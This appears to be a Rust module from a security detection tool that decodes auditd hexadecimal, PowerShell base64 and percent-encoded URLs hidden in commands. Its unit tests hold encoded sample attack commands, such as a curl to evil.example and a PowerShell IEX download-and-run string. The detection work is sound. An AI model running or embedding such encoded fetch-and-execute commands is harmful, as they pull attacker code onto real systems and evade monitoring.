//! Commands and URLs that are written in code: auditd's hexadecimal, PowerShell's base64, the percent signs of URLs.
//!
//! What is decoded must be text, or it was no code: a hash decodes to no text. Nothing is decoded twice.

use std::borrow::Cow;

use base64::{
    Engine, alphabet,
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};

/// Shorter runs of base64's letters are words.
const SHORTEST_BASE64: usize = 24;
/// At most so many runs of one text are decoded.
const MOST_BASE64: usize = 16;

/// As PowerShell and `base64 -d` take it: padding or not.
const BASE64: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_allow_trailing_bits(true)
        .with_decode_padding_mode(DecodePaddingMode::Indifferent),
);

/// What an argument in hexadecimal says. auditd writes one so where it holds a blank, a quote, a control character or anything
/// beyond ASCII (`audit_value_needs_encoding` of libaudit), so `sh -c "curl http://…"` reaches an alert as digits. A word
/// such as `cafe` decodes to nothing that would have been encoded.
pub(super) fn hexadecimal(text: &str) -> Option<String> {
    let digits = text.as_bytes();
    if digits.len() < 8
        || !digits.len().is_multiple_of(2)
        || !digits.iter().all(u8::is_ascii_hexdigit)
    {
        return None;
    }
    let bytes: Vec<u8> = digits
        .chunks_exact(2)
        .filter_map(|pair| {
            let pair = std::str::from_utf8(pair).ok()?;
            u8::from_str_radix(pair, 16).ok()
        })
        .collect();
    let needed_it = bytes
        .iter()
        .any(|byte| *byte <= b' ' || *byte == b'"' || *byte >= 0x7f);
    let text = String::from_utf8(bytes).ok()?;
    // `proctitle` holds its arguments with NUL between them.
    (needed_it && !text.chars().any(is_no_text)).then(|| text.replace('\0', " "))
}

/// The texts in base64 within a command: UTF-16 as `powershell -EncodedCommand` takes it, or UTF-8.
pub(super) fn base64(text: &str) -> impl Iterator<Item = String> + '_ {
    text.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=')))
        .filter(|run| run.len() >= SHORTEST_BASE64)
        .take(MOST_BASE64)
        .filter_map(|run| {
            // `x=SGVsbG8=`: an equals sign before the run is none of it.
            let run = run.trim_end_matches('=');
            let run = run.rsplit('=').next().unwrap_or(run);
            text_of(&BASE64.decode(run).ok()?)
        })
}

/// Bytes as UTF-16 of mostly ASCII, else as UTF-8; `None` where they are no text.
fn text_of(bytes: &[u8]) -> Option<String> {
    let (pairs, _) = bytes.as_chunks::<2>();
    let is_text = |text: &str| text.len() >= 8 && !text.chars().any(is_no_text);
    if !pairs.is_empty() && pairs.iter().filter(|pair| pair[1] == 0).count() * 10 >= pairs.len() * 9
    {
        let units: Vec<u16> = pairs.iter().map(|pair| u16::from_le_bytes(*pair)).collect();
        return Some(String::from_utf16_lossy(&units)).filter(|text| is_text(text));
    }
    let text = std::str::from_utf8(bytes).ok()?;
    is_text(text).then(|| text.to_owned())
}

/// A URL without percent signs, where that shows one more URL in it: `/?x=http%3A%2F%2Fevil.example`.
pub(super) fn percent(text: &str) -> Option<Cow<'_, str>> {
    if !text.contains('%') {
        return None;
    }
    let urls = |text: &str| memchr::memmem::find_iter(text.as_bytes(), b"://").count();
    let decoded = percent_encoding::percent_decode_str(text).decode_utf8_lossy();
    (urls(&decoded) > urls(text)).then_some(decoded)
}

fn is_no_text(c: char) -> bool {
    c.is_control() && !matches!(c, '\0' | '\t' | '\n' | '\r')
}

#[cfg(test)]
mod tests {
    use super::{base64, hexadecimal, percent};

    #[test]
    fn only_what_auditd_would_have_encoded_is_decoded() {
        assert_eq!(
            hexadecimal("6375726C20687474703A2F2F6576696C2E6578616D706C65").as_deref(),
            Some("curl http://evil.example")
        );
        assert_eq!(
            hexadecimal("2F62696E2F7368002D63").as_deref(),
            Some("/bin/sh -c")
        );
        for text in [
            "d41d8cd98f00b204e9800998ecf8427e",
            "6162636465",
            "deadbeef",
            "xyz",
            "",
            "6375726C2",
        ] {
            assert_eq!(hexadecimal(text), None, "{text}");
        }
    }

    #[test]
    fn commands_in_base64_are_read_and_words_are_not() {
        let command = "SQBFAFgAKABoAHQAdABwADoALwAvAGEALgBiACkA";
        let of = |text: &str| base64(text).collect::<Vec<_>>();
        assert_eq!(of(&format!("powershell -e {command}")), ["IEX(http://a.b)"]);
        assert_eq!(
            of("x=aHR0cDovL2V2aWwuZXhhbXBsZS9hLnBz="),
            ["http://evil.example/a.ps"]
        );
        for text in [
            "07c83f0bf8f8a855cfd77b7e8f2014b8d808d14354b8ce540c2a9b0df11ae367",
            "/usr/lib/systemd/systemdnetworkdwaitonline",
            "ABCDEFGHIJKLMNOPQRSTUVWXYZABCDEF",
        ] {
            assert!(of(text).is_empty(), "{text}");
        }
    }

    #[test]
    fn percent_signs_are_read_where_they_hide_a_url() {
        assert_eq!(
            percent("/?x=http%3A%2F%2Fa.b").as_deref(),
            Some("/?x=http://a.b")
        );
        assert_eq!(percent("/?x=http://a.b/c%20d"), None);
        assert_eq!(percent("/a%20b"), None);
    }
}
